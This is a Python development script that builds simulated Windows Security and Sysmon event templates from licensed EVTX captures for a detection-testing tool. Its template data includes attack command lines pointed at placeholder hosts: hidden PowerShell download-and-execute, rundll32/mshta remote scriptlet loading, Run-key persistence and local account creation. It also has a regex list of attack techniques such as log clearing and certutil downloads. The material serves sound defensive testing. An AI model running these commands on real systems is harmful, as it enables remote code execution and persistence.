"""Rebuild src/auditplan/simulator/data/event_templates.json from the real EVTX dev set.

    python tools/build_event_templates.py [EVTX_DEV_DIR] [OUT_JSON]

A development script, run from a checkout (it is not part of the installed package). It needs
the dev extra (python-evtx) and the reference folder beside the checkout.

Reads ../shared/reference/evtx-dev/ (SOURCES.md gives each file's licence) and keeps events
only from CC0-1.0 and MIT files: GPL-3.0 files are never copied into the package. Each
template is one real event, rendered the way wevtutil prints it (reference
windows-tool-outputs.md §4.1: single-quoted attributes, empty elements self-closed, GUIDs in
braces, no whitespace between tags), with its file, record number and licence.

The dev set has no Sysmon event in a CC0/MIT file, so Sysmon EID 1 templates are built from
the published Sysmon schema (EID 1, version 5) with the process fields of a process template
(one per mix class and image, carrying that image's weight); their attribution says so.

On-disk record sizes (for the log's capacity) come from python-evtx's `Record.size()`. The
first record of an event id in a chunk also carries the binary-XML template definition, so
every template's size is modelled as `overhead(event id, version) + 2 * value characters`
(EVTX stores strings as UTF-16), the overhead being the median over records that reuse a
template already defined in their chunk.

Process mix. The CC0 captures are attack recordings (14 of their process events are
`wevtutil cl`), so every 4688 template gets a mix class and a relative weight, and the
simulator (simulator/eventlog_templates.py, PROCESS_MIX) gives each class a share of process starts:
- "benign": ordinary OS/service activity: the benign 4688s of the captures (SOURCES.md
  "benign-content" kind and the svchost/winlogon children of the attack files) plus variants
  derived from real events by changing only NewProcessName, CommandLine and/or
  ParentProcessName to common Windows processes (DERIVED_BENIGN; each names its base event
  and the fields changed in `source.derived`);
- "attack": the technique events of the captures (ATTACK_PATTERNS: wevtutil cl, auditpol
  /clear, reg add, certutil -urlcache, net user/group, schtasks /create, sc config, tscon, ...);
- "attack_family": derived events that auditplan's five detection families match (the dev set's
  CC0/MIT files hold none: regsvr32/ftp/hidden PowerShell exist only in its GPL files), so the
  detections have something to find (DERIVED_ATTACK_FAMILY).
Credential-bearing command lines (DERIVED_BENIGN_SECRETS: sqlcmd -P, curl -u, ConvertTo-SecureString
-AsPlainText, net use, a connection string; DERIVED_ATTACK: net user /add; one hidden-PowerShell family
template) carry obviously fake values ("Example-Not-A-Real-PwN") so the exposure count has something to
find; the collector redacts them before anything is stored. The benign ones weigh SECRET_WEIGHT each,
about 1.1 % of process starts together (an ASSUMPTION, stated, not measured).
Within a class, each process image (basename) has a weight (IMAGE_WEIGHTS, default 1), shared
equally by that image's templates. The weights are an ASSUMPTION (a guess at how often a quiet
Windows server starts each image), not a measurement.

The 11 early-boot processes of the MIT baseline stay the per-boot sequence (kind "boot"): their
CommandLine is empty (auditing was off), so they are not reused as routine process starts.
"""

from __future__ import annotations

import hashlib
import json
import re
import statistics
import sys
import xml.etree.ElementTree as ET
from collections import Counter, defaultdict
from pathlib import Path
from typing import Any

EVENT_NS = "{http://schemas.microsoft.com/win/2004/08/events/event}"
SECURITY_AUDITING = "Microsoft-Windows-Security-Auditing"
ALLOWED_LICENCES = ("CC0-1.0", "MIT")
PROCESS_CREATION_EVENT_ID = 4688
# Security event ids used as the "other" traffic of a Security log (logon, privileges, group
# and account enumeration, credential reads: the bulk of a quiet server's log).
OTHER_EVENT_IDS = (4624, 4625, 4648, 4672, 4798, 4799, 5379)
OTHER_PER_ID_LIMIT = 4
# The audit-off baseline: its second boot (records 119-131) writes the 11 early-boot 4688s
# (evtx-data.md §2.2); the first boot also has setupcl.exe (sysprep first boot).
BOOT_FILE = "dfirmuseum__APTSimulatorVM_EventLogs_Server2022__Security.evtx"
BOOT_RECORDS = range(119, 132)
SYSMON_PROVIDER = "Microsoft-Windows-Sysmon"
SYSMON_GUID = "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"
SYSMON_CHANNEL = "Microsoft-Windows-Sysmon/Operational"
# Mix classes (see the module docstring; simulator/eventlog_templates.py's PROCESS_MIX gives their shares).
MIX_BENIGN, MIX_ATTACK, MIX_ATTACK_FAMILY = "benign", "attack", "attack_family"
# Technique command lines of the captures (matched case-insensitively on CommandLine, and on
# NewProcessName for execution from Temp): each marks its template "attack".
ATTACK_PATTERNS: tuple[tuple[str, str], ...] = (
    ("T1070.001 clear event log", r"wevtutil(\.exe)?\"?\s+cl\s"),
    ("T1562.002 clear audit policy", r"auditpol(\.exe)?\"?\s+/clear"),
    ("T1112 reg add (IFEO, service ImagePath, Run)", r"\breg(\.exe)?\"?\s+add\s"),
    ("T1105 certutil download", r"certutil(\.exe)?\"?\s+-urlcache"),
    ("T1087/T1069 net user/group discovery", r"\bnet1?(\.exe)?\"?\s+(user|group|localgroup)\b"),
    ("T1053.005 schtasks /create", r"schtasks(\.exe)?\"?\s+/create"),
    ("T1562.001/T1543.003 sc config", r"\bsc(\.exe)?\"?\s+config\s"),
    ("T1563.002 RDP hijack (tscon)", r"\btscon(\.exe)?\"?\s"),
    ("T1546.008 sticky keys", r"\bsethc\.exe\b"),
    ("T1564 WSL install (dism)", r"dism(\.exe)?\"?\s+/online\s+/enable-feature"),
    ("T1564 WSL install (wsl)", r"\bwsl(\.exe)?\"?\s"),
    ("T1059.001 hidden PowerShell", r"\s-w(indowstyle)?\s+hidden\b"),
    ("execution from a Temp folder", r"\\AppData\\Local\\Temp\\"),
)
# Relative start frequency of a process image within its class: an ASSUMPTION for a quiet
# server (console hosts and COM/task hosts start most often), not a measurement.
IMAGE_WEIGHTS: dict[str, float] = {
    "conhost.exe": 6.0,
    "dllhost.exe": 4.0,
    "svchost.exe": 3.0,
    "backgroundtaskhost.exe": 3.0,
    "taskhostw.exe": 3.0,
    "searchprotocolhost.exe": 3.0,
    "searchfilterhost.exe": 3.0,
    "wmiprvse.exe": 2.0,
    "runtimebroker.exe": 2.0,
    "cscript.exe": 2.0,
    "gpupdate.exe": 0.5,
}
PROCESS_FIELDS_CHANGEABLE = ("NewProcessName", "CommandLine", "ParentProcessName")
# Base events of the derived templates (CC0-1.0 files of the dev set).
_RDP = "mdec__ID4688_4778_4779_RDP_hijack_direct.evtx"
_WSL = "mdec__ID4688-Linux_Subsystem_installation_WSL.evtx"
_DEFENDER = "mdec__ID4688-Defender_service_deactivation_attempt.evtx"
_SERVICE = "mdec__ID4688-Service_abuse_with_malicious_path.evtx"
_SYS32 = "C:\\Windows\\System32\\"
_SVCHOST = _SYS32 + "svchost.exe"
_CMD32 = "C:\\Windows\\system32\\"  # as command lines spell it
# (base file, base record number, changed fields). Bases: SYSTEM children of services.exe
# (WSL #3, TrustedInstaller), of svchost.exe (RDP #10, DllHost) and an administrator's cmd.exe
# children (Defender #1, sc.exe; service #2, reg.exe; WSL #2, DismHost).
DERIVED_BENIGN: tuple[tuple[str, int, dict[str, str]], ...] = (
    (_WSL, 3, {"NewProcessName": _SVCHOST, "CommandLine": _CMD32 + "svchost.exe -k netsvcs -p -s BITS"}),
    (_WSL, 3, {"NewProcessName": _SVCHOST, "CommandLine": _CMD32 + "svchost.exe -k netsvcs -p -s wuauserv"}),
    (_WSL, 3, {"NewProcessName": _SVCHOST, "CommandLine": _CMD32 + "svchost.exe -k netsvcs -p -s UsoSvc"}),
    (_WSL, 3, {"NewProcessName": _SVCHOST, "CommandLine": _CMD32 + "svchost.exe -k wusvcs -p -s WaaSMedicSvc"}),
    (_WSL, 3, {"NewProcessName": _SYS32 + "msiexec.exe", "CommandLine": _CMD32 + "msiexec.exe /V"}),
    (_WSL, 3, {"NewProcessName": _SYS32 + "sppsvc.exe", "CommandLine": _CMD32 + "sppsvc.exe"}),
    (_RDP, 10, {"NewProcessName": _SYS32 + "wbem\\WmiPrvSE.exe",
                "CommandLine": _CMD32 + "wbem\\wmiprvse.exe -secured -Embedding"}),
    (_RDP, 10, {"NewProcessName": _SYS32 + "wbem\\WmiPrvSE.exe",
                "CommandLine": _CMD32 + "wbem\\wmiprvse.exe -Embedding"}),
    (_RDP, 10, {"NewProcessName": _SYS32 + "rundll32.exe",
                "CommandLine": _CMD32 + "rundll32.exe C:\\Windows\\system32\\PcaSvc.dll,PcaPatchSdbTask"}),
    (_RDP, 10, {"NewProcessName": _SYS32 + "SearchProtocolHost.exe", "ParentProcessName": _SYS32 + "SearchIndexer.exe",
                "CommandLine": "\"" + _CMD32 + "SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe5_ "
                "Global\\UsGthrCtrlFltPipeMssGthrPipe5 1 -2147483646 \"Software\\Microsoft\\Windows Search\" "
                "\"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)\" "
                "\"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc\" \"DownLevelDaemon\""}),
    (_RDP, 10, {"NewProcessName": _SYS32 + "SearchFilterHost.exe", "ParentProcessName": _SYS32 + "SearchIndexer.exe",
                "CommandLine": "\"" + _CMD32 + "SearchFilterHost.exe\" 0 704 708 716 8192 712"}),
    (_RDP, 10, {"NewProcessName": _SYS32 + "CompatTelRunner.exe",
                "CommandLine": _CMD32 + "compattelrunner.exe -m:appraiser.dll -f:DoScheduledTelemetryRun"}),
    (_RDP, 10, {"NewProcessName": _SYS32 + "wermgr.exe", "CommandLine": _CMD32 + "wermgr.exe -upload"}),
    (_RDP, 10, {"NewProcessName": _SYS32 + "taskhostw.exe", "CommandLine": "taskhostw.exe SYSTEM"}),
    (_DEFENDER, 1, {"NewProcessName": _SYS32 + "conhost.exe",
                    "CommandLine": "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"}),
    (_DEFENDER, 1, {"NewProcessName": _SYS32 + "gpupdate.exe", "CommandLine": "gpupdate  /force"}),
)
# One derived event per detection family (emit/sigma/family*.yml); the hosts and URLs are
# placeholders (example.invalid), the shapes those of the published techniques.
DERIVED_ATTACK_FAMILY: tuple[tuple[str, int, dict[str, str]], ...] = (
    (_DEFENDER, 1, {"NewProcessName": _SYS32 + "rundll32.exe",
                    "CommandLine": "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";"
                    "document.write();GetObject(\"script:https://attacker.example.invalid/r.sct\")"}),
    (_DEFENDER, 1, {"NewProcessName": _SYS32 + "ftp.exe",
                    "CommandLine": "ftp  -i -s:C:\\Users\\admmig\\AppData\\Local\\Temp\\ftp.txt"}),
    (_DEFENDER, 1, {"NewProcessName": _SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
                    "CommandLine": "powershell  -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString("
                    "'https://attacker.example.invalid/a.ps1')\""}),
    (_WSL, 2, {"NewProcessName": "C:\\Users\\Public\\Libraries\\update.exe",
               "CommandLine": "\"C:\\Users\\Public\\Libraries\\update.exe\" /silent",
               "ParentProcessName": "C:\\Windows\\explorer.exe"}),
    (_SERVICE, 2, {"CommandLine": "reg  add \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\" /v Updater "
                   "/t REG_SZ /d \"C:\\Users\\Public\\Libraries\\update.exe\" /f"}),
    # A second shape per family (1, 3, 4, 5), one of them also carrying an (obviously fake) password.
    (_DEFENDER, 1, {"NewProcessName": _SYS32 + "mshta.exe",
                    "CommandLine": "mshta.exe javascript:a=GetObject(\"script:https://attacker.example.invalid/m.sct\")"
                    ".Exec();close()"}),
    (_DEFENDER, 1, {"NewProcessName": _SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
                    "CommandLine": "powershell  -nop -w hidden -c \"$p = ConvertTo-SecureString "
                    "'Example-Not-A-Real-Pw7' -AsPlainText -Force; Invoke-Command -ComputerName dc01 -Credential "
                    "(New-Object PSCredential('CORP\\admmig', $p)) -ScriptBlock {whoami}\""}),
    (_WSL, 2, {"NewProcessName": "C:\\Users\\admmig\\AppData\\Local\\Temp\\msupd\\svchosts.exe",
               "CommandLine": "\"C:\\Users\\admmig\\AppData\\Local\\Temp\\msupd\\svchosts.exe\" -k net",
               "ParentProcessName": "C:\\Windows\\explorer.exe"}),
    (_SERVICE, 2, {"CommandLine": "reg  add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce "
                   "/v svc /t REG_SZ /d \"C:\\Users\\admmig\\AppData\\Local\\Temp\\msupd\\svchosts.exe\" /f"}),
)
# Administrators' commands that put a credential on the command line (obviously fake values; the
# collector redacts them before anything is stored: collect/redact/). Each carries its own
# weight within the benign class: 0.1 each, 0.5 of the benign total of ~45, i.e. about 1.1 % of
# process starts (an ASSUMPTION chosen so a demo sample of a few hundred events finds some).
SECRET_WEIGHT = 0.1
DERIVED_BENIGN_SECRETS: tuple[tuple[str, int, dict[str, str]], ...] = (
    (_DEFENDER, 1, {"NewProcessName": "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\"
                    "SQLCMD.EXE", "CommandLine": "sqlcmd  -S db01.corp.example -U svc_report -P Example-Not-A-Real-Pw1 "
                    "-Q \"EXEC dbo.nightly_export\""}),
    (_DEFENDER, 1, {"NewProcessName": _SYS32 + "curl.exe",
                    "CommandLine": "curl.exe  -s -u deploy:Example-Not-A-Real-Pw2 "
                    "https://artifacts.example.invalid/api/v1/status"}),
    (_DEFENDER, 1, {"NewProcessName": _SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
                    "CommandLine": "powershell.exe  -NoProfile -Command \"$s = ConvertTo-SecureString "
                    "'Example-Not-A-Real-Pw3' -AsPlainText -Force; New-PSDrive -Name B -PSProvider FileSystem "
                    "-Root \\\\fs01\\backup -Credential (New-Object PSCredential('CORP\\svc_backup', $s))\""}),
    (_DEFENDER, 1, {"NewProcessName": _SYS32 + "net.exe",
                    "CommandLine": "net  use \\\\fs01.corp.example\\backup Example-Not-A-Real-Pw4 "
                    "/user:CORP\\svc_backup"}),
    (_DEFENDER, 1, {"NewProcessName": "C:\\Program Files\\Contoso\\Sync\\synctool.exe",
                    "CommandLine": "\"C:\\Program Files\\Contoso\\Sync\\synctool.exe\" --connection "
                    "\"Server=db01.corp.example;Database=crm;User Id=sync;Password=Example-Not-A-Real-Pw5;\""}),
)
# An attacker adding a local account (technique class "attack"), again with a fake password.
DERIVED_ATTACK: tuple[tuple[str, int, dict[str, str]], ...] = (
    (_DEFENDER, 1, {"NewProcessName": _SYS32 + "net.exe",
                    "CommandLine": "net  user helpdesk Example-Not-A-Real-Pw6 /add"}),
)
# Windows renders GUID-typed values in braces; evtx-rs drops them.
_BARE_GUID = re.compile(r"^[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}$")
_INTEGRITY = {
    "S-1-16-4096": "Low",
    "S-1-16-8192": "Medium",
    "S-1-16-8448": "Medium",
    "S-1-16-12288": "High",
    "S-1-16-16384": "System",
}


def read_licences(sources_md: Path) -> dict[str, tuple[str, str]]:
    """File name -> (licence, "repository / path") from the per-file table of SOURCES.md."""
    out: dict[str, tuple[str, str]] = {}
    for line in sources_md.read_text(encoding="utf-8").splitlines():
        cells = [c.strip() for c in line.strip().strip("|").split("|")]
        if len(cells) >= 3 and cells[0].startswith("`") and cells[0].endswith(".evtx`"):
            name = cells[0].strip("`")
            if cells[2] and not cells[2].startswith("`"):
                out[name] = (cells[2], cells[1].replace("`", ""))
    return out


def _braced(guid: str) -> str:
    guid = guid.strip("{}")
    return "{" + guid + "}"


def _system_of(root: ET.Element) -> dict[str, Any]:
    sys_el = root.find(f"{EVENT_NS}System")
    assert sys_el is not None
    provider = sys_el.find(f"{EVENT_NS}Provider")
    execution = sys_el.find(f"{EVENT_NS}Execution")
    correlation = sys_el.find(f"{EVENT_NS}Correlation")
    security = sys_el.find(f"{EVENT_NS}Security")
    time_el = sys_el.find(f"{EVENT_NS}TimeCreated")

    def text(tag: str) -> str:
        el = sys_el.find(f"{EVENT_NS}{tag}")
        return (el.text or "").strip() if el is not None else ""

    guid = provider.get("Guid") if provider is not None else None
    return {
        "provider_name": provider.get("Name", "") if provider is not None else "",
        "provider_guid": _braced(guid).lower() if guid else None,
        "event_id": int(text("EventID")),
        "version": int(text("Version") or 0),
        "level": int(text("Level") or 0),
        "task": int(text("Task") or 0),
        "opcode": int(text("Opcode") or 0),
        "keywords": text("Keywords"),
        "activity_id": _braced(correlation.get("ActivityID", "")) if correlation is not None
        and correlation.get("ActivityID") else None,
        "process_id": int(execution.get("ProcessID", "0")) if execution is not None else 0,
        "thread_id": int(execution.get("ThreadID", "0")) if execution is not None else 0,
        "channel": text("Channel"),
        "computer": text("Computer"),
        "user_id": security.get("UserID") if security is not None else None,
        "time_created": time_el.get("SystemTime", "") if time_el is not None else "",
        "event_record_id": int(text("EventRecordID") or 0),
    }


def _data_of(root: ET.Element) -> list[list[str]] | None:
    data_el = root.find(f"{EVENT_NS}EventData")
    if data_el is None:
        return None
    out: list[list[str]] = []
    for d in data_el.findall(f"{EVENT_NS}Data"):
        value = d.text or ""
        if _BARE_GUID.match(value):
            value = _braced(value)
        out.append([d.get("Name", ""), value])
    return out


def _value_chars(data: list[list[str]] | None) -> int:
    return sum(len(v) for _, v in data or [])


def _record_sizes(path: Path, event_ids: dict[int, int]) -> tuple[dict[int, int], dict[int, bool]]:
    """python-evtx record number -> Record.size(), and whether it reuses a chunk template.

    `event_ids` (record number -> event id) comes from evtx-rs: rendering every record with
    python-evtx just to read its EventID cost about 30 s of the rebuild; sizes and record numbers
    come from the record headers, which python-evtx reads without rendering.
    """
    from Evtx.Evtx import Evtx  # dev dependency, needed only to rebuild

    sizes: dict[int, int] = {}
    reuses: dict[int, bool] = {}
    with Evtx(str(path)) as fh:
        for chunk in fh.chunks():
            seen: set[str] = set()
            for rec in chunk.records():
                number = rec.record_num()
                key = str(event_ids[number]) if number in event_ids else "?"
                sizes[number] = rec.size()
                reuses[number] = key in seen
                seen.add(key)
    return sizes, reuses


def _sysmon_from_4688(t: dict[str, Any], index: int) -> dict[str, Any]:
    """A Sysmon EID 1 (schema version 5) built around the process fields of a real 4688."""
    d = dict((k, v) for k, v in t["data"])
    user_name = d.get("TargetUserName") if d.get("TargetUserName", "-") not in ("-", "") else None
    user = (f"{d.get('TargetDomainName')}\\{user_name}" if user_name
            else f"{d.get('SubjectDomainName', '-')}\\{d.get('SubjectUserName', '-')}")
    digest = hashlib.sha256(f"{t['source']['file']}:{t['source']['record_number']}".encode()).hexdigest()

    def guid(salt: str) -> str:
        h = hashlib.sha256((digest + salt).encode()).hexdigest()
        return "{" + f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:32]}" + "}"

    image = d.get("NewProcessName", "-")
    data = [
        ["RuleName", "-"],
        ["UtcTime", ""],  # re-stamped at render time
        ["ProcessGuid", guid("p")],
        ["ProcessId", str(int(d.get("NewProcessId", "0x0"), 16))],
        ["Image", image],
        ["FileVersion", "-"],
        ["Description", "-"],
        ["Product", "-"],
        ["Company", "-"],
        ["OriginalFileName", image.rsplit("\\", 1)[-1]],
        ["CommandLine", d.get("CommandLine", "")],
        ["CurrentDirectory", "C:\\Windows\\system32\\"],
        ["User", user],
        ["LogonGuid", guid("l")],
        ["LogonId", d.get("TargetLogonId") if user_name else d.get("SubjectLogonId", "0x0")],
        ["TerminalSessionId", "0"],
        ["IntegrityLevel", _INTEGRITY.get(d.get("MandatoryLabel", ""), "High")],
        ["Hashes", "-"],
        ["ParentProcessGuid", guid("pp")],
        ["ParentProcessId", str(int(d.get("ProcessId", "0x0"), 16))],
        ["ParentImage", d.get("ParentProcessName", "-") or "-"],
        ["ParentCommandLine", "-"],
    ]
    return {
        "kind": "sysmon",
        "system": {
            "provider_name": SYSMON_PROVIDER,
            "provider_guid": SYSMON_GUID,
            "event_id": 1,
            "version": 5,
            "level": 4,
            "task": 1,
            "opcode": 0,
            "keywords": "0x8000000000000000",
            "activity_id": None,
            "process_id": 2012 + index,
            "thread_id": 300 + index,
            "channel": SYSMON_CHANNEL,
            "user_id": "S-1-5-18",
        },
        "data": data,
        "record_size": None,  # filled by build() from the 4688 overhead
        "source": {
            "built_from": "published Sysmon schema, EID 1 (ProcessCreate) version 5 field list; no Sysmon "
            "event exists in a CC0/MIT file of the dev set",
            "process_fields_from": t["source"],
        },
    }


def _basename(t: dict[str, Any]) -> str:
    image = dict((k, v) for k, v in t["data"]).get("NewProcessName", "")
    return str(image).rsplit("\\", 1)[-1].lower()


def _mix_of(data: list[list[str]]) -> str:
    d = dict((k, v) for k, v in data)
    text = d.get("CommandLine", "") + "\n" + d.get("NewProcessName", "")
    return MIX_ATTACK if any(re.search(p, text, re.IGNORECASE) for _, p in ATTACK_PATTERNS) else MIX_BENIGN


def _derive(real: dict[tuple[str, int], dict[str, Any]], file: str, record: int, changes: dict[str, str],
            mix: str) -> dict[str, Any]:
    """A real 4688 with only `changes` (NewProcessName/CommandLine/ParentProcessName) replaced."""
    base = real.get((file, record))
    if base is None:
        raise ValueError(f"{file}#{record}: base event of a derived template not found among the CC0/MIT 4688s")
    names = [n for n, _ in base["data"]]
    bad = set(changes) - set(PROCESS_FIELDS_CHANGEABLE) or set(changes) - set(names)
    if bad:
        raise ValueError(f"{file}#{record}: cannot change field(s) {', '.join(sorted(bad))} of this event")
    changed = [n for n in names if n in changes]
    source = dict(base["source"])
    source["derived"] = f"derived from {file}#{record}, fields changed: {', '.join(changed)}"
    source["fields_changed"] = changed
    return {"kind": "process", "system": dict(base["system"]),
            "data": [[n, changes.get(n, v)] for n, v in base["data"]], "record_size": None, "source": source}


def _process_mix(templates: list[dict[str, Any]], real: dict[tuple[str, int], dict[str, Any]]) -> list[dict[str, Any]]:
    """Process templates (real, then derived) with their mix class and relative weight."""
    classed = [(t, _mix_of(t["data"])) for t in templates if t["kind"] == "process"]
    classed += [(_derive(real, f, r, c, MIX_BENIGN), MIX_BENIGN) for f, r, c in DERIVED_BENIGN]
    classed += [(_derive(real, f, r, c, MIX_ATTACK_FAMILY), MIX_ATTACK_FAMILY) for f, r, c in DERIVED_ATTACK_FAMILY]
    classed += [(_derive(real, f, r, c, MIX_ATTACK), MIX_ATTACK) for f, r, c in DERIVED_ATTACK]
    secrets = [_derive(real, f, r, c, MIX_BENIGN) for f, r, c in DERIVED_BENIGN_SECRETS]
    seen: set[tuple[str, str, str]] = set()
    for t in [t for t, _ in classed] + secrets:
        # a rendered event must still name its template (tests trace each one to its real event)
        d = dict((k, v) for k, v in t["data"])
        ident = (d.get("NewProcessName", ""), d.get("CommandLine", ""), d.get("NewProcessId", ""))
        if ident in seen:
            raise ValueError(f"derived template duplicates another process template: {ident}")
        seen.add(ident)
    # an image's weight is shared by its templates, so 14 captured `wevtutil cl` count as one image
    per_image = Counter((mix, _basename(t)) for t, mix in classed)
    out: list[dict[str, Any]] = []
    for t, mix in classed:
        weight = IMAGE_WEIGHTS.get(_basename(t), 1.0) / per_image[(mix, _basename(t))]
        out.append({"kind": "process", "mix": mix, "weight": round(weight, 6),
                    **{k: v for k, v in t.items() if k != "kind"}})
    # their own weight, outside the per-image sharing (powershell.exe and net.exe also start for other reasons)
    out += [{"kind": "process", "mix": MIX_BENIGN, "weight": SECRET_WEIGHT,
             **{k: v for k, v in t.items() if k != "kind"}} for t in secrets]
    return out


def _sysmon_templates(process: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """One Sysmon EID 1 per (mix, image) of the process templates, carrying the image's whole weight."""
    out: list[dict[str, Any]] = []
    taken: set[tuple[str, str]] = set()
    for t in process:
        key = (t["mix"], _basename(t))
        if key in taken:
            continue
        taken.add(key)
        sysmon = _sysmon_from_4688(t, len(out))
        # an image started only by the credential-bearing commands keeps their (small) total weight
        secret_only = all(p["weight"] == SECRET_WEIGHT and "Example-Not-A-Real" in str(p["data"])
                          for p in process if (p["mix"], _basename(p)) == key)
        weight = (SECRET_WEIGHT * sum(1 for p in process if (p["mix"], _basename(p)) == key) if secret_only
                  else IMAGE_WEIGHTS.get(key[1], 1.0))
        out.append({"kind": "sysmon", "mix": t["mix"], "weight": weight,
                    **{k: v for k, v in sysmon.items() if k != "kind"}})
    return out


def dumps(doc: dict[str, Any]) -> str:
    """The JSON as packaged: one template per line (keeps the file small and its diffs readable)."""
    head = json.dumps({k: v for k, v in doc.items() if k != "templates"}, indent=1, ensure_ascii=False)
    lines = ",\n".join(json.dumps(t, ensure_ascii=False) for t in doc["templates"])
    return head[: -len("\n}")] + ',\n "templates": [\n' + lines + "\n ]\n}\n"


def build(dev_dir: Path) -> dict[str, Any]:
    import evtx  # the runtime parser (pyevtx-rs)

    licences = read_licences(dev_dir / "SOURCES.md")
    templates: list[dict[str, Any]] = []
    overhead_samples: dict[tuple[int, int], list[int]] = defaultdict(list)
    other_taken: Counter[int] = Counter()
    seen_process: set[tuple[str, str]] = set()
    sources: dict[str, dict[str, str]] = {}
    real_4688: dict[tuple[str, int], dict[str, Any]] = {}

    for path in sorted(dev_dir.glob("*.evtx")):
        licence, origin = licences.get(path.name, ("", ""))
        if licence not in ALLOWED_LICENCES:
            continue
        sources[path.name] = {"licence": licence, "origin": origin}
        parsed: list[tuple[int, ET.Element]] = []
        for record in evtx.PyEvtxParser(str(path)).records():
            if record is None:
                continue
            rec: dict[str, Any] = dict(record)
            # evtx-rs rendering of the pinned, checksummed dev set (SOURCES.md), not host input
            xml_text = str(rec["data"])
            parsed.append((int(str(rec["event_record_id"])), ET.fromstring(xml_text.split("?>", 1)[1])))  # noqa: S314
        sizes, reuses = _record_sizes(path, {n: _system_of(root)["event_id"] for n, root in parsed})
        for number, root in parsed:
            system = _system_of(root)
            data = _data_of(root)
            size = sizes.get(number)
            key = (system["event_id"], system["version"])
            if size is not None and reuses.get(number):
                overhead_samples[key].append(size - 2 * _value_chars(data))
            if system["provider_name"] != SECURITY_AUDITING or data is None:
                continue
            source = {
                "file": path.name,
                "record_number": number,
                "event_record_id": system.pop("event_record_id"),
                "time_created": system.pop("time_created"),
                "computer": system.pop("computer"),
                "licence": licence,
                "origin": origin,
            }
            kind = None
            eid = system["event_id"]
            if path.name == BOOT_FILE:
                if eid == PROCESS_CREATION_EVENT_ID and number in BOOT_RECORDS:
                    kind = "boot"
                elif eid in OTHER_EVENT_IDS and other_taken[eid] < OTHER_PER_ID_LIMIT:
                    kind = "other"
            elif eid == PROCESS_CREATION_EVENT_ID:
                d = dict((k, v) for k, v in data)
                ident = (d.get("NewProcessName", ""), d.get("CommandLine", ""))
                if d.get("CommandLine") and ident not in seen_process:
                    seen_process.add(ident)
                    kind = "process"
            elif eid in OTHER_EVENT_IDS and other_taken[eid] < OTHER_PER_ID_LIMIT:
                kind = "other"
            if eid == PROCESS_CREATION_EVENT_ID:
                real_4688[(path.name, number)] = {"system": dict(system), "data": data, "source": source}
            if kind is None:
                continue
            if kind == "other":
                other_taken[eid] += 1
            templates.append({"kind": kind, "system": system, "data": data, "record_size": None,
                              "source": source})

    overhead = {k: int(statistics.median(v)) for k, v in overhead_samples.items() if v}
    fallback = overhead.get((PROCESS_CREATION_EVENT_ID, 2), 400)
    process = _process_mix(templates, real_4688)
    templates = [t for t in templates if t["kind"] != "process"] + process
    templates += _sysmon_templates(process)
    for t in templates:
        s = t["system"]
        base = overhead.get((s["event_id"], s["version"]), fallback)
        if t["kind"] == "sysmon":
            base = fallback + 200  # more fields than a 4688: an assumption, no CC0/MIT sample
        t["record_size"] = (base + 2 * _value_chars(t["data"]) + 7) // 8 * 8
    boot = [t for t in templates if t["kind"] == "boot"]
    t0 = _ticks(boot[0]["source"]["time_created"]) if boot else 0
    for t in boot:
        t["boot_offset_ticks"] = _ticks(t["source"]["time_created"]) - t0
    return {
        "about": "Real Windows events re-stamped by auditplan's simulator (TimeCreated, EventRecordID, "
        "Computer change; all other fields are as the real event had them). Sources: CC0-1.0 and MIT "
        "files only, per ../shared/reference/evtx-dev/SOURCES.md; each template names its file, record "
        "number and licence. Derived process templates change only the fields their source.derived names "
        "(a common Windows process in place of the captured one); mix and weight give each process template "
        "its class and relative weight (tools/build_event_templates.py; the weights are an assumption). Sysmon "
        "templates are synthetic (see their source).",
        "sources": sources,
        "record_overhead_bytes": {f"{k[0]}v{k[1]}": v for k, v in sorted(overhead.items())},
        "templates": templates,
    }


def _ticks(iso: str) -> int:
    """100-ns ticks of an evtx-rs SystemTime ('2023-10-18T05:44:33.467732Z'), relative scale only."""
    from datetime import datetime

    dt = datetime.fromisoformat(iso.replace("Z", "+00:00"))
    return int(dt.timestamp()) * 10_000_000 + dt.microsecond * 10


def main(argv: list[str] | None = None) -> int:
    args = sys.argv[1:] if argv is None else argv
    repo = Path(__file__).resolve().parents[1]
    dev_dir = Path(args[0]) if args else (repo / ".." / "shared" / "reference" / "evtx-dev").resolve()
    out = Path(args[1]) if len(args) > 1 else repo / "src" / "auditplan" / "simulator" / "data" / "event_templates.json"
    if not (dev_dir / "SOURCES.md").is_file():
        print(f"error: {dev_dir}: no SOURCES.md here (need the evtx-dev reference folder)", file=sys.stderr)
        return 2
    try:
        doc = build(dev_dir)
    except ValueError as exc:
        print(f"error: {dev_dir}: {exc}", file=sys.stderr)
        return 2
    out.parent.mkdir(parents=True, exist_ok=True)
    out.write_text(dumps(doc), encoding="utf-8")
    kinds = Counter(f"{t['kind']}/{t['mix']}" if "mix" in t else t["kind"] for t in doc["templates"])
    print(f"wrote {out} ({out.stat().st_size} bytes): {dict(kinds)}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
